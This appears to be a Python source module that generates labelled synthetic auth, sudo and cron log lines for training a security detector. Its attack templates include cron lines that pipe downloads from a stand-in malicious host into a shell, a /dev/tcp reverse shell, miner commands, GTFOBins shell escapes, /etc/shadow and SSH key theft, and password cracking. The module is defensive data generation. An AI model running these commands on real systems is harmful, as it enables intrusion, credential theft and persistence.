"""Logins and privilege: sshd, dropbear, PAM, sudo, su, cron, logind, user management.

Labelling decisions (each line judged on its own evidence):

* ``Failed password``, ``Invalid user``, PAM ``authentication failure`` with an
  rhost, ``maximum authentication attempts exceeded``, ``Too many
  authentication failures``, ``not allowed because ...``, ``ROOT LOGIN
  REFUSED``: brute_force, even alone (the incident layer counts them).
* ``Connection closed by authenticating user X ... [preauth]`` and
  ``Disconnected from (invalid|authenticating) user ... [preauth]``: brute_force,
  the client got as far as a user name and left without a session, which is
  what password bots do between attempts (fail2ban's sshd filter in its
  default mode counts them).  ``Received disconnect ...: 11: Bye Bye
  [preauth]`` likewise (the farewell of libssh-based bots).
* ``Did not receive identification string``, ``Bad protocol version
  identification``, ``kex_exchange_identification``, ``Unable to negotiate``
  and a bare ``Connection closed/reset by IP port N [preauth]``: network_scan,
  the footprints of port and banner scanners that never try a password.
* ``reverse mapping checking ... POSSIBLE BREAK-IN ATTEMPT`` and ``Address X
  maps to Y, but this does not map back``: benign.  Despite the wording they
  only say the client's DNS is inconsistent, which is common for honest
  clients on consumer lines.
* ``Failed publickey`` for a *valid* user is not generated as an attack: an
  agent offering several keys logs it on every login.  For an invalid user it
  is brute_force.
* sudo and su by an admin are benign whatever the command, except commands
  that read secrets (``/etc/shadow``, private keys: credential_access) or
  break out to a root shell in GTFOBins style (privilege_escalation).  Any
  sudo or su by a web or service account, ``user NOT in sudoers``, a UID 0
  account being created, a service account joining ``sudo``/``wheel``, and
  pkexec's PwnKit traces are privilege_escalation.
* cron running a download piped to a shell, a binary out of ``/tmp`` or
  ``/dev/shm``, or base64 decoded into bash: malware_c2 (persistence of a
  dropper); every other cron line is benign.
"""

from __future__ import annotations

from insyt.training.synth.core import BENIGN, Ctx, Emitter, Line, templated

_SSH_KEYS = ("RSA SHA256:{blob:32}", "ED25519 SHA256:{blob:32}", "ECDSA SHA256:{blob:32}")

SSHD_BENIGN = (
    "Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{blob:32}",
    "Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{blob:32}",
    "Accepted publickey for {user} from {ip} port {port} ssh2",
    "Accepted password for {user} from {ip} port {port} ssh2",
    "Accepted keyboard-interactive/pam for {user} from {ip} port {port} ssh2",
    "Accepted gssapi-with-mic for {user} from {ip} port {port} ssh2",
    "pam_unix(sshd:session): session opened for user {user}(uid={int:1000-1999}) by (uid=0)",
    "pam_unix(sshd:session): session opened for user {user} by (uid=0)",
    "pam_unix(sshd:session): session closed for user {user}",
    "Received disconnect from {ip} port {port}:11: disconnected by user",
    "Received disconnect from {ip}: 11: disconnected by user",
    "Disconnected from user {user} {ip} port {port}",
    "Disconnected from {ip} port {port}",
    "Server listening on 0.0.0.0 port {pick:22|22|2222|22022}.",
    "Server listening on :: port {pick:22|22|2222}.",
    "Received signal 15; terminating.",
    "Received SIGHUP; restarting.",
    "Starting session: shell on pts/{int:0-9} for {user} from {ip} port {port} id 0",
    "Starting session: command for {user} from {ip} port {port} id 0",
    "Starting session: subsystem 'sftp' for {user} from {ip} port {port} id 0",
    "User child is on pid {pid}",
    "Postponed publickey for {user} from {ip} port {port} ssh2 [preauth]",
    'Connection from {ip} port {port} on {privip} port 22 rdomain ""',
    "Transferred: sent {size}, received {size2} bytes",
    "Close session: user {user} from {ip} port {port} id 0",
    "subsystem request for sftp by user {user}",
    "Timeout, client not responding from user {user} {ip} port {port}",
    "Read error from remote host {ip} port {port}: Connection reset by peer",
    "error: connect_to localhost port {int:3000-9000}: failed.",
    "Set /proc/self/oom_score_adj to 0",
    "rexec line {int:10-140}: Deprecated option UsePrivilegeSeparation",
    "error: Could not load host key: /etc/ssh/ssh_host_{pick:dsa|ecdsa|ed25519}_key",
    "pam_systemd(sshd:session): Failed to create session: Connection timed out",
    "Address {pubip} maps to {rhost}, but this does not map back to the address - "
    "POSSIBLE BREAK-IN ATTEMPT!",
    "reverse mapping checking getaddrinfo for {rhost} [{pubip}] failed - POSSIBLE BREAK-IN "
    "ATTEMPT!",
    "Failed publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{blob:32}",
    "debug1: Forked child {pid}.",
    "Read error from remote host {privip} port {port}: Connection timed out",
    "Accepted publickey for git from {ip} port {port} ssh2: ECDSA SHA256:{blob:32}",
    "pam_unix(sshd:session): session opened for user git(uid={int:100-999}) by (uid=0)",
    "Received disconnect from {ip} port {port}:11: Normal Shutdown, Thank you for playing",
    "Connection closed by {privip} port {port}",
    "Exiting on signal 15",
    "ssh_dispatch_run_fatal: Connection from user {user} {ip} port {port}: Broken pipe",
    "error: PAM: pam_open_session(): Module is unknown",
)
SSHD_BRUTE = (
    "Failed password for {baduser} from {ip} port {port} ssh2",
    "Failed password for root from {ip} port {port} ssh2",
    "Failed password for invalid user {baduser} from {ip} port {port} ssh2",
    "Failed password for invalid user {baduser} from {ip} port {port}",
    "Failed none for invalid user {baduser} from {ip} port {port} ssh2",
    "Failed keyboard-interactive/pam for invalid user {baduser} from {ip} port {port} ssh2",
    "Failed keyboard-interactive/pam for {baduser} from {ip} port {port} ssh2",
    "Failed publickey for invalid user {baduser} from {ip} port {port} ssh2: RSA SHA256:{blob:32}",
    "Invalid user {baduser} from {ip} port {port}",
    "Invalid user {baduser} from {ip}",
    "input_userauth_request: invalid user {baduser} [preauth]",
    "error: PAM: Authentication failure for {baduser} from {ip}",
    "error: PAM: Authentication failure for illegal user {baduser} from {ip}",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
    "rhost={ip}  user={baduser}",
    "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}",
    "pam_unix(sshd:auth): check pass; user unknown",
    "PAM {int:2-5} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= "
    "rhost={ip}  user=root",
    "PAM service(sshd) ignoring max retries; {int:4-6} > 3",
    "error: maximum authentication attempts exceeded for {baduser} from {ip} port {port} ssh2 "
    "[preauth]",
    "error: maximum authentication attempts exceeded for invalid user {baduser} from {ip} port "
    "{port} ssh2 [preauth]",
    "Disconnecting authenticating user {baduser} {ip} port {port}: Too many authentication "
    "failures [preauth]",
    "Disconnecting invalid user {baduser} {ip} port {port}: Too many authentication failures "
    "[preauth]",
    "Disconnecting: Too many authentication failures for {baduser} [preauth]",
    "Connection closed by authenticating user {baduser} {ip} port {port} [preauth]",
    "Connection closed by invalid user {baduser} {ip} port {port} [preauth]",
    "Disconnected from invalid user {baduser} {ip} port {port} [preauth]",
    "Disconnected from authenticating user root {ip} port {port} [preauth]",
    "Received disconnect from {ip} port {port}:11: Bye Bye [preauth]",
    "Received disconnect from {ip}: 11: Bye Bye [preauth]",
    "Received disconnect from {ip} port {port}:11:  [preauth]",
    "Received disconnect from {ip} port {port}:11: Client disconnecting normally [preauth]",
    "User root from {ip} not allowed because not listed in AllowUsers",
    "User {baduser} from {ip} not allowed because none of user's groups are listed in AllowGroups",
    "User {baduser} not allowed because account is locked",
    "User {baduser} not allowed because shell /sbin/nologin does not exist",
    "ROOT LOGIN REFUSED FROM {ip}",
    "ROOT LOGIN REFUSED FROM {ip} port {port}",
    "message repeated {int:2-9} times: [ Failed password for root from {ip} port {port} ssh2]",
    "message repeated {int:2-5} times: [ Failed password for invalid user {baduser} from {ip} "
    "port {port} ssh2]",
    "error: Received disconnect from {ip} port {port}:3: com.jcraft.jsch.JSchException: Auth "
    "fail [preauth]",
    "Failed password for invalid user {baduser} from {ipvsix} port {port} ssh2",
    "Invalid user {baduser} from {ipvsix} port {port}",
    "error: PAM: User not known to the underlying authentication module for illegal user "
    "{baduser} from {ip}",
    "Failed {pick:password|password|publickey} for illegal user {baduser} from {ip} port {port} "
    "ssh2",
    "Illegal user {baduser} from {ip}",
    "Received disconnect from {ip} port {port}:11: Normal Shutdown, Thank you for playing "
    "[preauth]",
    "Received disconnect from {ip}: 11: Normal Shutdown, Thank you for playing [preauth]",
    "Failed hostbased for {baduser} from {ip} port {port} ssh2: RSA SHA256:{blob:32}, client "
    'user "{baduser}", client host "{rhost}"',
    "error: PAM: authentication error for {baduser} from {rhost} via {privip}",
    "error: PAM: Authentication failure for {baduser} from {rhost}",
    "refused connect from {rhost} ({ip})",
    "refused connect from {ip} ({ip})",
    "Disconnecting invalid user {baduser} {ip} port {port}: Change of username or service not "
    "allowed: ({baduser},ssh-connection) -> ({baduser2},ssh-connection) [preauth]",
    "error: Received disconnect from {ip} port {port}:3: com.jcraft.jsch.JSchException: Auth "
    "cancel [preauth]",
    "Postponed keyboard-interactive for invalid user {baduser} from {ip} port {port} ssh2 "
    "[preauth]",
    "error: AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys {baduser} failed, status 1",
    "Connection closed by invalid user {baduser} {ipvsix} port {port} [preauth]",
    "Invalid user  from {ip} port {port}",
)
SSHD_SCAN = (
    "Did not receive identification string from {ip}",
    "Did not receive identification string from {ip} port {port}",
    "Bad protocol version identification '{pick:GET / HTTP/1.1|\\003|SSH-1.5-NmapNSE_1.0|"
    "\\026\\003\\001|OPTIONS / RTSP/1.0}' from {ip} port {port}",
    "Bad protocol version identification 'SSH-2.0-{pick:Go|libssh2_1.4.3|"
    "paramiko_2.4.2}-' from {ip}",
    "Connection closed by {ip} port {port} [preauth]",
    "Connection closed by {ip} [preauth]",
    "Connection reset by {ip} port {port} [preauth]",
    "Disconnected from {ip} port {port} [preauth]",
    "error: kex_exchange_identification: Connection closed by remote host",
    "error: kex_exchange_identification: read: Connection reset by peer",
    "error: kex_exchange_identification: banner line contains invalid characters",
    "banner exchange: Connection from {ip} port {port}: invalid format",
    "banner exchange: Connection from {ip} port {port}: could not read protocol version",
    "Unable to negotiate with {ip} port {port}: no matching key exchange method found. Their "
    "offer: diffie-hellman-group1-sha1,diffie-hellman-group14-sha1 [preauth]",
    "Unable to negotiate with {ip} port {port}: no matching host key type found. Their offer: "
    "ssh-dss [preauth]",
    "Unable to negotiate with {ip} port {port}: no matching cipher found. Their offer: "
    "aes128-cbc,3des-cbc,blowfish-cbc [preauth]",
    "fatal: Unable to negotiate a key exchange method [preauth]",
    "ssh_dispatch_run_fatal: Connection from {ip} port {port}: invalid format [preauth]",
    "ssh_dispatch_run_fatal: Connection from {ip} port {port}: message authentication code "
    "incorrect [preauth]",
    "error: kex_protocol_error: type {int:20-30} seq {int:1-9} [preauth]",
    "Protocol major versions differ for {ip}: SSH-2.0-OpenSSH_{int:5-9}.{int:0-9} vs. "
    "SSH-1.5-NmapNSE_1.0",
    "fatal: no matching mac found: client hmac-md5 server hmac-sha2-256,hmac-sha2-512 [preauth]",
    "error: Protocol major versions differ: 2 vs. 1",
    "fatal: Read from socket failed: Connection reset by peer [preauth]",
    "error: kex_exchange_identification: client sent invalid protocol identifier "
    '"{pick:GET / HTTP/1.1|GET / HTTP/1.0|MGLNDD_{ip}_22|\\026\\003\\001|}"',
    "ssh_dispatch_run_fatal: Connection from {ip} port {port}: Connection corrupted [preauth]",
    "Timeout before authentication for {ip} port {port}",
    "Timeout before authentication for connection from {ip} to {privip}, pid = {pid}",
    "fatal: Timeout before authentication for {ip} port {port}",
    "error: beginning MaxStartups throttling",
    "drop connection #{int:10-99} from [{ip}]:{port} on [{privip}]:22 past MaxStartups",
    "Unable to negotiate with {ip} port {port}: no matching host key type found. Their offer: "
    "ssh-rsa,ssh-dss [preauth]",
    "Unable to negotiate with {ip} port {port}: no matching host key type found. Their offer: "
    "ssh-dss",
    "fatal: Unable to negotiate with {ip} port {port}: no matching key exchange method found. "
    "Their offer: diffie-hellman-group-exchange-sha1,diffie-hellman-group1-sha1 [preauth]",
    'Connection from {ip} port {port} on {privip} port 22 rdomain "" [preauth]',
)

DROPBEAR = (
    (
        BENIGN,
        "benign:dropbear",
        (
            "Child connection from {ip}:{port}",
            "Password auth succeeded for '{user}' from {ip}:{port}",
            "Pubkey auth succeeded for '{user}' with key sha1!! {hex:2}:{hex:2}:{hex:2}:{hex:2} "
            "from {ip}:{port}",
            "Exit ({user}) from <{ip}:{port}>: Disconnect received",
            "Exit ({user}): Exited normally",
            "Running in background",
            "Generated hostkey /etc/dropbear/dropbear_ed25519_host_key, fingerprint is "
            "sha256:{blob:32}",
        ),
    ),
    (
        "brute_force",
        "attack:dropbear-bruteforce",
        (
            "Bad password attempt for '{baduser}' from {ip}:{port}",
            "Login attempt for nonexistent user '{baduser}' from {ip}:{port}",
            "Login attempt for nonexistent user from {ip}:{port}",
            "Exit before auth from <{ip}:{port}>: (user '{baduser}', {int:3-10} fails): Max auth "
            "tries reached",
            "Exit before auth (user '{baduser}', {int:3-10} fails): Max auth tries reached - user "
            "'{baduser}' from {ip}:{port}",
        ),
    ),
    (
        "network_scan",
        "attack:dropbear-scan",
        (
            "Exit before auth from <{ip}:{port}>: Exited normally",
            "Exit before auth from <{ip}:{port}>: Error reading: Connection reset by peer",
            "Exit before auth from <{ip}:{port}>: No matching algo kex",
        ),
    ),
)

# The PAM lines of logins that work: twins of the pam family's failures.
PAM_BENIGN = (
    "pam_sss(sshd:auth): authentication success; logname= uid=0 euid=0 tty=ssh ruser= "
    "rhost={ip} user={user}",
    "pam_sss({pick:vsftpd|dovecot|login}:auth): authentication success; logname= uid=0 euid=0 "
    "tty={pick:ftp|dovecot|tty1} ruser= rhost={privip} user={user}",
    "pam_unix(login:session): session opened for user {user}(uid={int:1000-1999}) by LOGIN(uid=0)",
    "pam_unix({pick:vsftpd|dovecot|sshd}:session): session opened for user {user} by (uid=0)",
    "pam_unix({pick:vsftpd|dovecot|login|sshd}:session): session closed for user {user}",
    "LOGIN ON tty{int:1-6} BY {user}",
    "ROOT LOGIN  ON tty{int:1-6}",
)

_ADMIN_COMMANDS = (
    "/usr/bin/apt update",
    "/usr/bin/apt upgrade -y",
    "/usr/bin/apt-get install -y {pick:htop|nginx|postgresql-15|vim|git|jq|curl|tmux|docker-ce}",
    "/bin/systemctl restart nginx",
    "/usr/bin/systemctl restart {pick:nginx|apache2|php8.2-fpm|postgresql|docker|sshd|"
    "postfix|dovecot|named|redis-server|mariadb|grafana-server}",
    "/usr/bin/systemctl status {pick:nginx|docker|cron|ssh}",
    "/usr/bin/journalctl -u {pick:nginx|sshd|docker} -f",
    "/usr/bin/tail -f /var/log/syslog",
    "/usr/bin/less /var/log/auth.log",
    "/usr/bin/vim /etc/nginx/sites-available/default",
    "/usr/bin/docker ps",
    "/usr/bin/docker compose up -d",
    "/usr/sbin/reboot",
    "/usr/bin/certbot renew",
    "/usr/bin/dnf -y update",
    "/usr/bin/yum install -y {pick:epel-release|httpd|wget}",
    "/usr/sbin/ufw allow {sport}/tcp",
    "/usr/sbin/iptables -L -n",
    "/usr/bin/kubectl get pods -A",
    "/usr/bin/rsync -a /srv/www/ /backup/www/",
    "/bin/chown -R www-data:www-data /var/www/html",
    "/usr/bin/mount /dev/{dev}1 /mnt",
    "/usr/bin/tee /etc/hosts",
    "/usr/sbin/visudo",
    "/usr/bin/snap refresh",
    "/usr/local/bin/deploy.sh {pick:production|staging}",
    "/usr/bin/fail2ban-client status sshd",
    "/usr/bin/crontab -e",
    "/usr/sbin/nginx -t",
    "/usr/bin/du -sh /var/log",
    "/usr/bin/passwd {person}",
    "/usr/sbin/adduser {person}",
    "/usr/bin/find /var/log -name *.gz -mtime +30 -delete",
    "/usr/bin/lsof -i :443",
    "/usr/bin/nmcli connection reload",
    "/usr/bin/ss -tlnp",
    "/bin/bash /opt/scripts/rotate.sh",
)
SUDO_BENIGN = (
    "{admin} : TTY=pts/{int:0-9} ; PWD=/home/{admin} ; USER=root ; COMMAND={admincmd}",
    "   {admin} : TTY=pts/{int:0-9} ; PWD=/root ; USER=root ; COMMAND={admincmd}",
    "{admin} : TTY=pts/{int:0-9} ; PWD=/srv/{word} ; USER={svcuser} ; COMMAND={admincmd}",
    "{svcuser} : PWD=/ ; USER=root ; COMMAND=/usr/lib/nagios/plugins/check_{pick:disk|load|"
    "procs|apt} -w 20% -c 10%",
    "zabbix : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/usr/bin/{pick:lsof|ss|smartctl} -a",
    "pam_unix(sudo:session): session opened for user root(uid=0) by {admin}(uid={int:1000-1999})",
    "pam_unix(sudo:session): session opened for user root by {admin}(uid=0)",
    "pam_unix(sudo:session): session closed for user root",
    "pam_unix(sudo-i:session): session opened for user root(uid=0) by {admin}(uid=1000)",
    "{admin} : TTY=pts/{int:0-9} ; PWD=/home/{admin} ; USER=root ; COMMAND=/bin/bash",
    "{admin} : TTY=pts/{int:0-9} ; PWD=/home/{admin} ; USER=root ; ENV=DEBIAN_FRONTEND="
    "noninteractive ; COMMAND={admincmd}",
    "ansible : TTY=pts/{int:0-4} ; PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo "
    "BECOME-SUCCESS-{hex:32} ; /usr/bin/python3 /home/ansible/.ansible/tmp/ansible-tmp-"
    "{int:1600000000-1800000000}.{int:10-99}-{int:1000-99999}/AnsiballZ_{pick:apt|copy|"
    "systemd|file|command}.py",
)
SU_BENIGN = (
    "Successful su for root by {admin}",
    "Successful su for {svcuser} by root",
    "+ pts/{int:0-9} {admin}:root",
    "+ ??? root:{svcuser}",
    "(to root) {admin} on pts/{int:0-9}",
    "pam_unix(su:session): session opened for user root(uid=0) by {admin}(uid={int:1000-1999})",
    "pam_unix(su-l:session): session opened for user {svcuser}(uid={int:100-999}) by (uid=0)",
    "pam_unix(su:session): session opened for user {svcuser} by (uid=0)",
    "pam_unix(su:session): session closed for user {svcuser}",
    "pam_unix(su-l:session): session closed for user root",
)
PRIVESC = (
    (
        "sudo",
        "{svc} : TTY=unknown ; PWD=/var/www/{pick:html|wordpress|{site}} ; USER=root ; "
        "COMMAND={shell}",
    ),
    (
        "sudo",
        "{svc} : user NOT in sudoers ; TTY=pts/{int:0-3} ; PWD={cwd} ; USER=root ; COMMAND={shell}",
    ),
    ("sudo", "{svc} : user NOT in sudoers ; TTY=unknown ; PWD={cwd} ; USER=root ; COMMAND=list"),
    (
        "sudo",
        "{svc} : command not allowed ; TTY=pts/{int:0-3} ; PWD={cwd} ; USER=root ; COMMAND={shell}",
    ),
    (
        "sudo",
        "{svc} : {int:1-3} incorrect password attempt{pick:|s} ; TTY=pts/{int:0-3} ; "
        "PWD={cwd} ; USER=root ; COMMAND={shell}",
    ),
    ("sudo", "{svc} : TTY=pts/{int:0-3} ; PWD={cwd} ; USER=root ; COMMAND=list"),
    ("sudo", "{any} : TTY=pts/{int:0-3} ; PWD={cwd} ; USER=root ; COMMAND={gtfo}"),
    (
        "sudo",
        "pam_unix(sudo:session): session opened for user root(uid=0) by {svc}(uid={int:33-999})",
    ),
    (
        "sudo",
        "pam_unix(sudo:auth): authentication failure; logname={svc} uid={int:33-999} "
        "euid=0 tty=/dev/pts/{int:0-3} ruser={svc} rhost=  user={svc}",
    ),
    (
        "sudo",
        "{svc} : a password is required ; TTY=unknown ; PWD={cwd} ; USER=root ; COMMAND={shell}",
    ),
    ("su", "(to root) {svc} on {pick:none|pts/0|pts/1}"),
    ("su", "FAILED SU (to root) {svc} on {pick:none|pts/0|pts/2}"),
    ("su", "pam_unix(su:session): session opened for user root(uid=0) by {svc}(uid={int:33-999})"),
    (
        "su",
        "pam_unix(su:auth): authentication failure; logname={svc} uid={int:33-999} euid=0 "
        "tty=pts/{int:0-3} ruser={svc} rhost=  user=root",
    ),
    ("su", "Successful su for root by {svc}"),
    ("pkexec", "{svc}: Executing command [USER=root] [TTY=unknown] [CWD={cwd}] [COMMAND={shell}]"),
    ("pkexec", "The value for the SHELL variable was not found the /etc/shells file"),
    ("pkexec", "The value for environment variable XAUTHORITY contains suscipious content"),
    ("pkexec", "pkexec --version: running as uid {int:33-999} with GCONV_PATH=./pwnkit"),
    ("useradd", "new user: name={baduser}, UID=0, GID=0, home=/root, shell=/bin/bash, from=none"),
    (
        "useradd",
        "new user: name={pick:sysupdate|systemd-netd|.bin|backdoor|toor|{baduser}}, "
        "UID=0, GID=0, home=/tmp, shell=/bin/sh, from=/dev/pts/{int:0-3}",
    ),
    ("usermod", "add '{svc}' to group '{pick:sudo|wheel|admin|root|docker}'"),
    ("usermod", "add '{svc}' to shadow group '{pick:sudo|wheel|admin}'"),
    ("gpasswd", "user {svc} added by root to group {pick:sudo|wheel|docker|lxd}"),
    ("passwd", "pam_unix(passwd:chauthtok): password changed for root by {svc}(uid={int:33-999})"),
    ("chfn", "changed user '{svc}' information"),
    (
        "kernel",
        "{pick:dirtypipe|exploit|poc|cve|x}[{pid}]: setuid(0) succeeded from uid "
        "{int:33-999}, spawning /bin/sh",
    ),
)
_SVC = (
    "www-data",
    "apache",
    "nginx",
    "nobody",
    "tomcat",
    "postgres",
    "mysql",
    "jenkins",
    "git",
    "redis",
    "daemon",
    "node",
    "elasticsearch",
    "zabbix",
    "ftp",
    "mail",
    "odoo",
)
_CWD = (
    "/var/www/html",
    "/tmp",
    "/dev/shm",
    "/var/tmp",
    "/var/www/html/wp-content/uploads",
    "/var/lib/{svc}",
    "/",
    "/opt/tomcat/bin",
    "/var/www/{site}/public",
    "/run/user/33",
)
_SHELLS = (
    "/bin/bash",
    "/bin/sh",
    "/usr/bin/bash -i",
    "/bin/su -",
    "/usr/bin/id",
    "/usr/bin/whoami",
    "/tmp/{pick:x|.x|rootme|pwn|exp|lpe}",
    "/dev/shm/.{word}",
    "/usr/bin/python3 -c import pty;pty.spawn('/bin/bash')",
    "/usr/bin/chmod u+s /bin/bash",
    "/bin/cp /bin/bash /tmp/.sh",
    "/usr/bin/passwd root",
    "/usr/sbin/usermod -aG sudo {svc}",
)
_GTFO = (
    "/usr/bin/find . -exec /bin/sh \\; -quit",
    "/usr/bin/vim -c :!/bin/sh",
    "/usr/bin/less /etc/profile !/bin/sh",
    '/usr/bin/awk BEGIN {system("/bin/sh")}',
    '/usr/bin/python3 -c import os; os.setuid(0); os.system("/bin/bash")',
    '/usr/bin/perl -e exec "/bin/sh";',
    "/usr/bin/env /bin/sh -p",
    "/usr/bin/nmap --interactive",
    "/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
    "/usr/bin/zip /tmp/x.zip /etc/hosts -T -TT sh #",
    "/usr/bin/git -p help config",
    "/usr/bin/docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
    "/bin/chmod 4755 /bin/dash",
    '/usr/bin/ruby -e exec "/bin/sh"',
    "/usr/bin/tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x.sh",
)
CREDS = (
    ("sudo", "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/bin/cat /etc/shadow"),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/cp /etc/shadow "
        "/tmp/{word}",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/unshadow "
        "/etc/passwd /etc/shadow",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/bin/cat /root/.ssh/id_rsa",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/tar czf "
        "/tmp/k.tgz /home/{person}/.ssh",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/john "
        "--wordlist=/usr/share/wordlists/rockyou.txt /tmp/{pick:hashes|shadow.txt|h}",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/hashcat -m "
        "{pick:1800|500|0|1000|3200} -a 0 /tmp/hashes.txt rockyou.txt",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/gdb -p "
        "{pid} -batch -ex dump memory /tmp/sshd.mem",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/find / -name "
        "id_rsa -o -name *.pem -o -name .pgpass",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/grep -ri "
        "password /var/www /etc",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/strings "
        "/var/lib/sss/db/cache_{domain}.ldb",
    ),
    (
        "sudo",
        "{who} : TTY=pts/{int:0-9} ; PWD={cwd} ; USER=root ; COMMAND=/usr/bin/base64 /etc/shadow",
    ),
)

CRON_BENIGN = (
    "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
    "(root) CMD (run-parts /etc/cron.hourly)",
    "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
    "(root) CMD ([ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then "
    "/usr/lib/php/sessionclean; fi)",
    "(root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))",
    "({user}) CMD (/home/{user}/bin/{pick:sync|backup|report|cleanup}.sh > /dev/null 2>&1)",
    "(www-data) CMD (php -f /var/www/{pick:nextcloud|owncloud}/cron.php)",
    "(www-data) CMD (/usr/bin/php /var/www/html/wp-cron.php >/dev/null 2>&1)",
    "(root) CMD (/usr/local/bin/backup.sh --target s3://{word}-backups/{srv} 2>&1 | logger -t "
    "backup)",
    '(root) CMD (/usr/bin/certbot -q renew --deploy-hook "systemctl reload nginx")',
    "(root) CMD (/usr/lib64/sa/sa1 1 1)",
    "(root) CMD (/usr/sbin/logrotate /etc/logrotate.conf)",
    "(root) CMD (/usr/bin/curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/{uuid})",
    '(root) CMD (wget -q -O /dev/null "https://{site}/cron.php?key={hex:16}")',
    "(postgres) CMD (/usr/bin/pg_dump -Fc {word} > /var/backups/pg/{word}.dump)",
    "(CRON) INFO (pidfile fd = 3)",
    "(CRON) INFO (Running @reboot jobs)",
    "(CRON) INFO (No MTA installed, discarding output)",
    "(CRON) INFO (Skipping @reboot jobs -- not system startup)",
    "(*system*) RELOAD (/etc/cron.d/{pick:certbot|php|sysstat|e2scrub_all})",
    "({user}) RELOAD (crontabs/{user})",
    "({user}) REPLACE ({user})",
    "({user}) BEGIN EDIT ({user})",
    "({user}) LIST ({user})",
    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
    "pam_unix(cron:session): session opened for user {user} by (uid=0)",
    "pam_unix(cron:session): session closed for user root",
    "pam_unix(crond:session): session opened for user root by (uid=0)",
    "(root) CMD (/usr/local/sbin/check_raid.sh)",
    "(root) CMD (/opt/scripts/rotate-logs.sh --keep 14)",
    "(root) CMD (sleep $((RANDOM \\% 3600)) && /usr/bin/apt-get -qq update)",
    '(root) CMD (echo "$(date) heartbeat" >> /var/log/heartbeat.log)',
    "(root) CMD (/usr/bin/docker system prune -af --filter until=168h)",
)
CRON_MALWARE = (
    "(root) CMD (curl -fsSL http://{evil}/{pick:x.sh|init.sh|ldr.sh|cr.sh} | sh)",
    "({svcuser}) CMD (wget -q -O - http://{evil}/{pick:a|b|xmr.sh|1.sh} | bash > /dev/null 2>&1)",
    "(root) CMD (/tmp/.{word}/{pick:kdevtmpfsi|kinsing|xmrig|.sshd|systemd-worker} >/dev/null "
    "2>&1)",
    "(root) CMD (/dev/shm/.{word} -o {pick:pool.supportxmr.com|xmr.pool.minergate.com|"
    "gulf.moneroocean.stream|pool.hashvault.pro}:{pick:3333|443|10128|5555} -u 4{hex:40})",
    "(root) CMD (echo {blob:40} | base64 -d | bash)",
    "({svcuser}) CMD ((curl -s http://{evil}/{hex:6}||wget -q -O- http://{evil}/{hex:6})|sh)",
    "(root) CMD (python -c 'import urllib;exec(urllib.urlopen(\"http://{evil}/d.py\").read())')",
    "(root) CMD (/bin/bash -c 'sh -i >& /dev/tcp/{pubip}/{pick:4444|1337|9001|53} 0>&1')",
    "(root) CMD (cd /tmp; busybox wget http://{evil}/bins.sh; chmod 777 bins.sh; sh bins.sh)",
    "(root) CMD (/usr/bin/.{word}/{word2} --donate-level 1 -B)",
)
LOGIND = (
    "New session {int:1-9999} of user {user}.",
    "New session c{int:1-999} of user {user}.",
    "Removed session {int:1-9999}.",
    "Session {int:1-9999} logged out. Waiting for processes to exit.",
    "New seat seat0.",
    "Watching system buttons on /dev/input/event{int:0-5} (Power Button)",
    "System is rebooting.",
    "Power key pressed short.",
    "Lid closed.",
    "Suspending...",
)
USERMGMT = (
    (
        "useradd",
        "new user: name={person}, UID={int:1001-1999}, GID={int:1001-1999}, "
        "home=/home/{person}, shell=/bin/bash, from=/dev/pts/{int:0-5}",
    ),
    ("useradd", "new group: name={person}, GID={int:1001-1999}"),
    (
        "useradd",
        "new user: name={svcuser}, UID={int:100-999}, GID={int:100-999}, "
        "home=/var/lib/{svcuser}, shell=/usr/sbin/nologin, from=none",
    ),
    ("groupadd", "group added to /etc/group: name={svcuser}, GID={int:100-999}"),
    ("usermod", "add '{person}' to group 'docker'"),
    ("passwd", "pam_unix(passwd:chauthtok): password changed for {person}"),
    ("chage", "changed password expiry for {person}"),
    ("userdel", "delete user '{person}'"),
    (
        "polkitd",
        "Registered Authentication Agent for unix-session:{int:1-40} (system bus name "
        ":1.{int:10-999} [/usr/bin/gnome-shell], object path "
        "/org/freedesktop/PolicyKit1/AuthenticationAgent, locale en_US.UTF-8)",
    ),
    (
        "polkitd",
        "Operator of unix-session:{int:1-9} successfully authenticated as unix-user:"
